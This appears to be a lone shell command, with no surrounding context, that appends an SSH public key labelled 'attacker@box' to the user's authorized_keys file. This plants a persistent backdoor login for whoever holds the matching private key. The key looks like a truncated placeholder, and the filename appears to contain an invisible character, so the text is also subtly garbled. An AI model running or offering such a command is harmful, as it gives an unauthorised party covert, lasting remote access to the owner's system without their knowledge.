echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJk attacker@box' \
  >> ~/.ssh/author​ized_keys
